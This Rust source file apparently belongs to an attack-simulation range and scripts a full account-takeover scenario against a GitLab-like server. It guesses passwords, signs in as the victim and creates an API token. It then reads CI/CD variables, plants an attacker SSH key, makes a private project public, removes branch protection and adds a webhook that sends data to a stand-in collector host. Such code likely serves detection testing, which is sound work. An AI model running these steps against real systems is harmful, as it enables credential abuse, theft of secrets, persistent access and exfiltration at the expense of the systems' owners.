//! `compromised-user`: somebody else knows a user's password.
//!
//! After a few wrong guesses the attacker signs in as a browser would, makes a
//! personal token on the settings page, and goes on by the API: variables, an
//! SSH key, a project made public, a protected branch removed, a webhook.

use reqwest::Method;
use serde_json::json;

use super::attacker::{Attacker, text};
use super::hands::{plant_key, plant_webhook};
use super::loot::{CredentialKind, Loot};
use super::{AttackError, hands};
use crate::world::VICTIM_PASSWORD;

/// The victim's username.
pub const USERNAME: &str = "oscar.lindqvist";
/// The key that is planted.
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarborRangeAttackerKeyCompromisedUser01234 nb-42";
/// Where the planted webhook sends to.
const COLLECTOR: &str = "https://hooks.status-relay.example/push";
/// What is tried before the right one.
const GUESSES: [&str; 3] = ["Harborline2026!", "oscar1987", "lindqvist-harbor"];

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    for guess in GUESSES {
        hands::try_password(&attacker, "guess the password", USERNAME, guess).await?;
    }
    let session = hands::sign_in(&attacker, USERNAME, VICTIM_PASSWORD).await?;
    let token = hands::make_token(&attacker, &session, "mobile", &["api"]).await?;
    let mut loot = Loot::new(attacker);
    loot.hold("the browser session", session);
    loot.hold("a personal token made with it", token.clone());
    let project = look_around(&mut loot, &token).await?;
    plant_key(&mut loot, &token, "notebook", KEY, &project).await?;
    open_up(&mut loot, &token, &project).await?;
    plant_webhook(&mut loot, &token, &project, COLLECTOR).await?;
    Ok(loot)
}

/// Reads what the user may read. Returns the project that he owns.
async fn look_around(loot: &mut Loot, token: &CredentialKind) -> Result<String, AttackError> {
    let (attacker, with) = (loot.attacker.clone(), Some(token));
    attacker.get("ask who the user is", "/user", with).await?.accepted()?;
    let path = "/projects?membership=true&per_page=100";
    let projects = attacker.get("list projects", path, with).await?.accepted()?;
    for project in projects.rows() {
        let path = format!("/projects/{}/variables?per_page=100", text(&project, "id"));
        let variables = attacker.get("read CI/CD variables", &path, with).await?;
        loot.variables_read += variables.rows().len();
    }
    let path = "/projects?owned=true";
    let owned = attacker.get("list own projects", path, with).await?.accepted()?;
    let first = owned.rows().first().map(|row| text(row, "id"));
    first.ok_or(AttackError::NotFound("a project that the user owns"))
}

/// Makes the project public and its main branch writable.
async fn open_up(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let path = format!("/projects/{project}");
    let title = "make a private project public";
    let to = ("visibility", json!("public"));
    hands::change(loot, token, title, (Method::PUT, &path), to).await?;
    hands::unprotect(loot, token, project, "main").await
}
